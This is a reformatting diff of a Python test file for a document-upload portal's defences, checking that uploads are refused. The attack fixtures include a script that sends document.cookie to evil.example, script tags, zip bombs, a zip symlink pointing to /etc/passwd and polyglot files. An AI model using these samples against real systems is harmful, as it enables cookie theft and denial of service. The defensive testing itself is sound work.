@@ -7,6 +7,7 @@ Every refusal: a message beside the file field (and the error summary's link to
 it), a 4xx (503 only when the scanner cannot answer), no document row, no file
 left in DOCUMENT_DIR, and a "document.refused" audit event. On both stores and
 both databases (the `db_backend` parametrisation of `app_with`)."""
+
 from __future__ import annotations
 
 import functools
@@ -24,16 +25,28 @@ from sqlalchemy import func, select
 from domain import documents, scanning
 from models import AuditEvent, Document, DocumentContent, ServiceRequest
 from tests.accounts_factory import body, sessionmaker_of, signed_in
+
 # With the document tests' fixtures (pytest finds them by name): `store` (both stores),
 # `folder` and `make_app(store, **config)`.
-from tests.test_documents import (OWNER, PNG, folder, make_app, make_docx, make_image, make_pdf,  # noqa: F401
-                                  make_xlsx, shop_in, store)
+from tests.test_documents import (  # noqa: F401
+    OWNER,
+    PNG,
+    folder,
+    make_app,
+    make_docx,
+    make_image,
+    make_pdf,
+    make_xlsx,
+    shop_in,
+    store,
+)
 
 EICAR = scanning.EICAR
 HTMX = {"HX-Request": "true"}
 
 
 # --- Files, built here ---------------------------------------------------------------------
+
 
 def _zip_bytes(parts: dict[str, bytes | str]) -> bytes:
     out = io.BytesIO()
@@ -47,20 +60,22 @@ def _with_zeros(build, member: str, megabytes: int) -> bytes:
     """An Office file with one more part: `megabytes` MB of zeros, written through
     zipfile's streaming writer (a real bomb, about 1000:1, built in memory)."""
     out = io.BytesIO(build())
-    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
-        with archive.open(member, "w", force_zip64=False) as part:
-            chunk = b"\0" * (1024 * 1024)
-            for _ in range(megabytes):
-                part.write(chunk)
+    with (
+        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
+        archive.open(member, "w", force_zip64=False) as part,
+    ):
+        chunk = b"\0" * (1024 * 1024)
+        for _ in range(megabytes):
+            part.write(chunk)
     return out.getvalue()
 
 
-@functools.lru_cache(maxsize=None)
+@functools.cache
 def xlsx_bomb() -> bytes:
     return _with_zeros(make_xlsx, "xl/worksheets/sheet2.xml", 200)
 
 
-@functools.lru_cache(maxsize=None)
+@functools.cache
 def docx_bomb() -> bytes:
     return _with_zeros(make_docx, "word/media/image1.png", 200)
 
@@ -76,7 +91,7 @@ def _symlink_xlsx() -> bytes:
     out = io.BytesIO(make_xlsx())
     with zipfile.ZipFile(out, "a") as archive:
         link = zipfile.ZipInfo("xl/media/link.png")
-        link.external_attr = (0o120777 << 16)  # a symbolic link, as Info-ZIP stores one
+        link.external_attr = 0o120777 << 16  # a symbolic link, as Info-ZIP stores one
         archive.writestr(link, "/etc/passwd")
     return out.getvalue()
 
@@ -101,9 +116,9 @@ def _understated_xlsx() -> bytes:
     with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
         local = archive.getinfo("xl/media/zeros.bin").header_offset
     central = bytes(content).rfind(b"xl/media/zeros.bin") - 46  # the name follows a 46-byte central header
-    assert content[central:central + 4] == b"PK\x01\x02" and content[local:local + 4] == b"PK\x03\x04"
-    content[local + 22:local + 26] = struct.pack("<I", 100)
-    content[central + 24:central + 28] = struct.pack("<I", 100)
+    assert content[central : central + 4] == b"PK\x01\x02" and content[local : local + 4] == b"PK\x03\x04"
+    content[local + 22 : local + 26] = struct.pack("<I", 100)
+    content[central + 24 : central + 28] = struct.pack("<I", 100)
     return bytes(content)
 
 
@@ -135,13 +150,25 @@ MALWARE = "contains a virus or other harmful content (Eicar-Test-Signature)"
 ATTACKS = [
     ("empty.pdf", lambda: b"", "“empty.pdf” is empty", "empty"),
     ("invoice.pdf", lambda: HTML, "“invoice.pdf” is named as a PDF but it is a web page (HTML)", "mismatch"),
-    ("script.pdf", lambda: b"<script>fetch('/profile/').then(r => r.text())</script>",
-     "“script.pdf” is named as a PDF but it is a web page (HTML)", "mismatch"),
-    ("payload.pdf", lambda: b"var s = document.cookie;\nnew Image().src = '//evil.example/?' + s;\n",
-     "“payload.pdf” is named as a PDF but it is text", "mismatch"),
+    (
+        "script.pdf",
+        lambda: b"<script>fetch('/profile/').then(r => r.text())</script>",
+        "“script.pdf” is named as a PDF but it is a web page (HTML)",
+        "mismatch",
+    ),
+    (
+        "payload.pdf",
+        lambda: b"var s = document.cookie;\nnew Image().src = '//evil.example/?' + s;\n",
+        "“payload.pdf” is named as a PDF but it is text",
+        "mismatch",
+    ),
     ("html-first.pdf", lambda: HTML + b"\n" + make_pdf(), POLYGLOT, "polyglot"),
-    ("html-inside.pdf", lambda: _pdf_with_header_line(b"%<html><script>alert(1)</script></html>"), POLYGLOT,
-     "polyglot"),
+    (
+        "html-inside.pdf",
+        lambda: _pdf_with_header_line(b"%<html><script>alert(1)</script></html>"),
+        POLYGLOT,
+        "polyglot",
+    ),
     ("zip-appended.pdf", lambda: make_pdf() + SMALL_ZIP, POLYGLOT, "polyglot"),
     ("zip-appended.jpg", lambda: _jpeg() + SMALL_ZIP, POLYGLOT, "polyglot"),
     ("zip-appended.png", lambda: PNG + SMALL_ZIP, POLYGLOT, "polyglot"),
@@ -159,33 +186,50 @@ ATTACKS = [
     ("hidden-zip.xlsx", lambda: _office_with(make_xlsx, "xl/media/image1.png", SMALL_ZIP), NESTED, "nested"),
     ("eicar.csv", lambda: EICAR + b"\r\n", f"“eicar.csv” {MALWARE}", "malware"),
     ("eicar-in.pdf", lambda: _pdf_with_header_line(b"%" + EICAR), f"“eicar-in.pdf” {MALWARE}", "malware"),
-    ("eicar-in.xlsx", lambda: _office_with(make_xlsx, "xl/media/readme.txt", EICAR), f"“eicar-in.xlsx” {MALWARE}",
-     "malware"),
+    (
+        "eicar-in.xlsx",
+        lambda: _office_with(make_xlsx, "xl/media/readme.txt", EICAR),
+        f"“eicar-in.xlsx” {MALWARE}",
+        "malware",
+    ),
 ]
 
 
 # --- The portal ----------------------------------------------------------------------------
 
+
 def _token(client, number) -> tuple[str, str]:
     page = body(client.get(f"/documents/{number}/upload"))
-    return (re.search(r'name="csrf_token" value="([^"]+)"', page).group(1),
-            re.search(r'name="token" value="([^"]+)"', page).group(1))
+    return (
+        re.search(r'name="csrf_token" value="([^"]+)"', page).group(1),
+        re.search(r'name="token" value="([^"]+)"', page).group(1),
+    )
 
 
 def post(client, number, files, headers=None):
     """The upload form sent as a browser sends it (multipart, CSRF token, one-time token)."""
     csrf, token = _token(client, number)
-    return client.post(f"/documents/{number}/upload", content_type="multipart/form-data", headers=headers or {},
-                       data={"csrf_token": csrf, "token": token, "description": "",
-                             "files": [(io.BytesIO(content), name) for name, content in files]})
+    return client.post(
+        f"/documents/{number}/upload",
+        content_type="multipart/form-data",
+        headers=headers or {},
+        data={
+            "csrf_token": csrf,
+            "token": token,
+            "description": "",
+            "files": [(io.BytesIO(content), name) for name, content in files],
+        },
+    )
 
 
 def kept(app) -> tuple[int, int, int]:
     """(documents, database contents, "documents" requests)."""
     with sessionmaker_of(app)() as db:
-        return (db.scalar(select(func.count(Document.id))),
-                db.scalar(select(func.count()).select_from(DocumentContent)),
-                db.scalar(select(func.count(ServiceRequest.id)).where(ServiceRequest.kind == "documents")))
+        return (
+            db.scalar(select(func.count(Document.id))),
+            db.scalar(select(func.count()).select_from(DocumentContent)),
+            db.scalar(select(func.count(ServiceRequest.id)).where(ServiceRequest.kind == "documents")),
+        )
 
 
 def on_disk(folder) -> list[str]:
@@ -197,15 +241,19 @@ def refusals(app) -> list[dict]:
     import json
 
     with sessionmaker_of(app)() as db:
-        return [json.loads(detail) for detail in db.scalars(
-            select(AuditEvent.detail).where(AuditEvent.event == "document.refused").order_by(AuditEvent.id))]
+        return [
+            json.loads(detail)
+            for detail in db.scalars(
+                select(AuditEvent.detail).where(AuditEvent.event == "document.refused").order_by(AuditEvent.id)
+            )
+        ]
 
 
 def assert_refused_beside_the_field(response, message: str, status: int = 400, htmx: bool = False):
     page = body(response)
     assert response.status_code == status, (message, response.status_code, page[:300])
     error = re.search(r'<div class="field-error" id="files-error">(.*?)</div>', page, re.S)
-    assert error and message in error.group(1), (message, page[page.find("error-summary"):][:800])
+    assert error and message in error.group(1), (message, page[page.find("error-summary") :][:800])
     assert 'href="#files"' in page  # the error summary links to the field
     if htmx:
         assert page.lstrip().startswith('<div id="upload-form"') and "<html" not in page
@@ -214,6 +262,7 @@ def assert_refused_beside_the_field(response, message: str, status: int = 400, h
 
 
 # --- The size limit ------------------------------------------------------------------------
+
 
 def _pdf_of_size(size: int) -> bytes:
     """A sound PDF of exactly `size` bytes: a comment padded out, then the trailer again."""
@@ -239,10 +288,12 @@ def test_a_file_of_exactly_the_limit_is_kept_and_one_byte_more_is_refused(make_a
 
 # --- The attack set ------------------------------------------------------------------------
 
+
 # Refusals come before either store is touched: each store is tried with one way of sending
 # (a plain form, htmx), which keeps the suite's time down and still covers all four.
-@pytest.mark.parametrize("store, htmx", [("filesystem", False), ("database", True)], ids=["filesystem-plain",
-                                                                                          "database-htmx"])
+@pytest.mark.parametrize(
+    "store, htmx", [("filesystem", False), ("database", True)], ids=["filesystem-plain", "database-htmx"]
+)
 def test_every_attack_file_is_refused_beside_the_field_and_nothing_is_kept(make_app, clock, store, folder, htmx):
     """ASVS 5.0 5.2.2 (content, not name: HTML or script named .pdf, polyglots), 5.2.3 (XLSX and DOCX
     bombs judged on declared sizes before expanding, nested archives), 5.2.5 (symbolic links in a zip),
@@ -267,8 +318,9 @@ def test_one_attack_among_good_files_keeps_none_of_them(make_app, clock, folder)
     """ASVS 5.0 5.2.2, 5.4.3: an upload is all or nothing; the good files go with the bad."""
     app = make_app("filesystem")
     shop = shop_in(app, clock)
-    response = post(signed_in(app, OWNER), shop["number"],
-                    [("good.pdf", make_pdf()), ("eicar.csv", EICAR), ("fine.png", PNG)])
+    response = post(
+        signed_in(app, OWNER), shop["number"], [("good.pdf", make_pdf()), ("eicar.csv", EICAR), ("fine.png", PNG)]
+    )
     assert_refused_beside_the_field(response, f"“eicar.csv” {MALWARE}")
     assert "None of your files were uploaded." in body(response)
     assert kept(app) == (0, 0, 0) and on_disk(folder) == []
@@ -277,8 +329,13 @@ def test_one_attack_among_good_files_keeps_none_of_them(make_app, clock, folder)
 def test_the_checks_themselves_judge_the_bytes_not_the_name():
     """ASVS 5.0 5.2.2, 5.2.3: the rules behind the attack set, without the web: a sound file passes,
     its hostile twin does not, whatever it is called; a bomb is judged before it is expanded."""
-    for build, kind in ((make_pdf, "pdf"), (_jpeg, "jpeg"), (lambda: PNG, "png"), (make_xlsx, "xlsx"),
-                        (make_docx, "docx")):
+    for build, kind in (
+        (make_pdf, "pdf"),
+        (_jpeg, "jpeg"),
+        (lambda: PNG, "png"),
+        (make_xlsx, "xlsx"),
+        (make_docx, "docx"),
+    ):
         assert documents.inspect(build()) == documents.Found(kind)
     # Leading white space before %PDF- is allowed (readers look in the first 1024 bytes); anything else is not.
     assert documents.inspect(b"\r\n  " + make_pdf()) == documents.Found("pdf")
@@ -291,6 +348,7 @@ def test_the_checks_themselves_judge_the_bytes_not_the_name():
     assert documents.inspect(_understated_xlsx()).problem == "damaged"
     # A bomb is refused from the declared sizes: reading it does not expand 200 MB.
     import time
+
     started = time.perf_counter()
     assert documents.inspect(xlsx_bomb()).problem == "bomb"
     assert time.perf_counter() - started < 1.0
@@ -334,8 +392,11 @@ def test_hostile_names_never_reach_the_disk_and_are_shown_and_sent_safely(make_a
         download = client.get(f"/documents/{shop['number']}/{document.id}/download")
         assert download.status_code == 200
         disposition = download.headers["Content-Disposition"]
-        assert re.fullmatch(r"attachment; filename=\"[A-Za-z0-9 ._()+,=@&#!~'-]+\"; "
-                            r"filename\*=UTF-8''[A-Za-z0-9%._~!#$&+^`|-]+", disposition), disposition
+        assert re.fullmatch(
+            r"attachment; filename=\"[A-Za-z0-9 ._()+,=@&#!~'-]+\"; "
+            r"filename\*=UTF-8''[A-Za-z0-9%._~!#$&+^`|-]+",
+            disposition,
+        ), disposition
         assert "\r" not in disposition and "\n" not in disposition and "Set-Cookie" not in download.headers
         if shown.split(".")[0] == "CON":
             assert 'filename="_CON.pdf"' in disposition  # Windows keeps CON for a device
@@ -355,10 +416,12 @@ def test_hostile_names_never_reach_the_disk_and_are_shown_and_sent_safely(make_a
 
 # --- clamd, over a real socket -------------------------------------------------------------
 
+
 class FakeClamd(socketserver.ThreadingTCPServer):
     """A loopback server speaking clamd's INSTREAM protocol: it reads the chunks, keeps what it was
     sent, and answers FOUND for the EICAR string or for MARKER (a signature only this "clamd" knows,
     so a refusal for it can only have come through the socket), OK otherwise; or ERROR, or hangs up."""
+
     allow_reuse_address = True
     daemon_threads = True
     MARKER = b"CLAMD-ONLY-TEST-SIGNATURE"
@@ -427,7 +490,8 @@ def test_the_clamd_client_speaks_instream_over_a_real_socket(clamd):
     assert scanning.clamd_scan(big, server.address) == scanning.CLEAN
     assert server.received[-1] == big
     assert scanning.clamd_scan(b"%PDF-1.4 " + EICAR, server.address) == scanning.Verdict(
-        "infected", "Eicar-Test-Signature")
+        "infected", "Eicar-Test-Signature"
+    )
     assert scanning.clamd_scan(b"", server.address) == scanning.CLEAN and server.received[-1] == b""
     assert scanning.clamd_scan(b"x", clamd("error").address).outcome == "unavailable"
     assert scanning.clamd_scan(b"x", clamd("hang-up").address).outcome == "unavailable"
@@ -454,8 +518,9 @@ def test_with_clamd_set_each_file_goes_through_it_and_a_finding_is_refused(make_
     marked = _pdf_with_header_line(b"%" + FakeClamd.MARKER)
     for htmx in (False, True):
         response = post(client, shop["number"], [("marked.pdf", marked)], headers=HTMX if htmx else None)
-        assert_refused_beside_the_field(response, "“marked.pdf” contains a virus or other harmful content "
-                                                  "(Clamd.Only.Test)", htmx=htmx)
+        assert_refused_beside_the_field(
+            response, "“marked.pdf” contains a virus or other harmful content (Clamd.Only.Test)", htmx=htmx
+        )
     assert server.received[-1] == marked
     assert kept(app)[0] == 1 and len(on_disk(folder)) == (1 if store == "filesystem" else 0)
     assert refusals(app)[-1]["malware"][0]["signature"] == "Clamd.Only.Test"
@@ -466,8 +531,9 @@ def test_with_clamd_set_each_file_goes_through_it_and_a_finding_is_refused(make_
 
 
 @pytest.mark.parametrize("mode", ["down", "error"])
-def test_when_clamd_cannot_answer_nothing_is_kept_and_the_person_is_told_to_try_later(make_app, clock, folder,
-                                                                                      clamd, mode):
+def test_when_clamd_cannot_answer_nothing_is_kept_and_the_person_is_told_to_try_later(
+    make_app, clock, folder, clamd, mode
+):
     """ASVS 5.0 5.4.3 (fail closed: a scanner that is down never lets a file through unscanned).
     503 with Retry-After: the file is not at fault, the service is; the form comes back to retry."""
     if mode == "down":
@@ -482,14 +548,14 @@ def test_when_clamd_cannot_answer_nothing_is_kept_and_the_person_is_told_to_try_
     client = signed_in(app, OWNER)
     for htmx in (False, True):
         response = post(client, shop["number"], [("fine.pdf", make_pdf())], headers=HTMX if htmx else None)
-        assert_refused_beside_the_field(response, "We cannot check files for viruses just now", status=503,
-                                        htmx=htmx)
+        assert_refused_beside_the_field(response, "We cannot check files for viruses just now", status=503, htmx=htmx)
         assert response.headers["Retry-After"] == "120"
     assert kept(app) == (0, 0, 0) and on_disk(folder) == []
     assert refusals(app)[-1]["reasons"] == ["scanner_unavailable"]
 
 
 # --- The per-account quota -----------------------------------------------------------------
+
 
 def test_the_quota_of_bytes_and_of_files_refuses_what_does_not_fit(make_app, clock, store, folder):
     """ASVS 5.0 5.2.4: a quota of bytes and of files per account, checked with the insert; over it,
@@ -511,8 +577,9 @@ def test_the_quota_of_bytes_and_of_files_refuses_what_does_not_fit(make_app, clo
     client = signed_in(counted, OWNER)
     assert post(client, shop["number"], [("small.png", PNG)]).status_code == 303
     fourth = post(client, shop["number"], [("fourth.png", PNG)], headers=HTMX)
-    assert_refused_beside_the_field(fourth, "This account can keep up to 3 documents and already has 3", status=422,
-                                    htmx=True)
+    assert_refused_beside_the_field(
+        fourth, "This account can keep up to 3 documents and already has 3", status=422, htmx=True
+    )
     assert kept(counted)[0] == 3
     assert len(on_disk(folder)) == (3 if store == "filesystem" else 0)
 
@@ -533,9 +600,15 @@ def test_parallel_uploads_cannot_both_slip_under_the_quota(make_app, clock, stor
     def send(i):
         csrf, token = forms[i]
         start.wait()
-        answers[i] = clients[i].post(f"/documents/{shop['number']}/upload", content_type="multipart/form-data",
-                                     data={"csrf_token": csrf, "token": token,
-                                           "files": [(io.BytesIO(pdf), f"race-{i}.pdf")]}).status_code
+        answers[i] = (
+            clients[i]
+            .post(
+                f"/documents/{shop['number']}/upload",
+                content_type="multipart/form-data",
+                data={"csrf_token": csrf, "token": token, "files": [(io.BytesIO(pdf), f"race-{i}.pdf")]},
+            )
+            .status_code
+        )
 
     threads = [threading.Thread(target=send, args=(i,)) for i in range(len(workers))]
     for thread in threads:
@@ -555,17 +628,37 @@ def test_parallel_uploads_cannot_both_slip_under_the_quota(make_app, clock, stor
     answer = {}
     with sessionmaker_of(holder_app)() as db:
         documents.enforce_quota(db, shop["account_id"], [checked], documents.Quota(max_bytes=3 * len(pdf) + 10))
-        thread = threading.Thread(target=lambda: answer.setdefault("status", waiter.post(
-            f"/documents/{shop['number']}/upload", content_type="multipart/form-data",
-            data={"csrf_token": csrf, "token": token, "files": [(io.BytesIO(pdf), "waiting.pdf"),
-                                                                 (io.BytesIO(make_pdf("Second")), "second.pdf")]}
-        ).status_code))
+        thread = threading.Thread(
+            target=lambda: answer.setdefault(
+                "status",
+                waiter.post(
+                    f"/documents/{shop['number']}/upload",
+                    content_type="multipart/form-data",
+                    data={
+                        "csrf_token": csrf,
+                        "token": token,
+                        "files": [(io.BytesIO(pdf), "waiting.pdf"), (io.BytesIO(make_pdf("Second")), "second.pdf")],
+                    },
+                ).status_code,
+            )
+        )
         thread.start()
         thread.join(timeout=1.0)  # a bounded wait on a real thread: it must still be waiting
         assert thread.is_alive() and "status" not in answer  # waiting for the held account
-        db.add(Document(account_id=shop["account_id"], stored_name=documents.new_stored_name(), uploaded_name="held.pdf",
-                        content_type="application/pdf", size_bytes=len(pdf), sha256=checked.sha256,
-                        storage="database", description="", uploaded_at=clock(), uploaded_by_user_id=shop["owner"]))
+        db.add(
+            Document(
+                account_id=shop["account_id"],
+                stored_name=documents.new_stored_name(),
+                uploaded_name="held.pdf",
+                content_type="application/pdf",
+                size_bytes=len(pdf),
+                sha256=checked.sha256,
+                storage="database",
+                description="",
+                uploaded_at=clock(),
+                uploaded_by_user_id=shop["owner"],
+            )
+        )
         db.commit()
     thread.join(timeout=30)
     assert answer["status"] == 422  # 1 + 1 held + 2 more would be 4 PDFs: room for 3
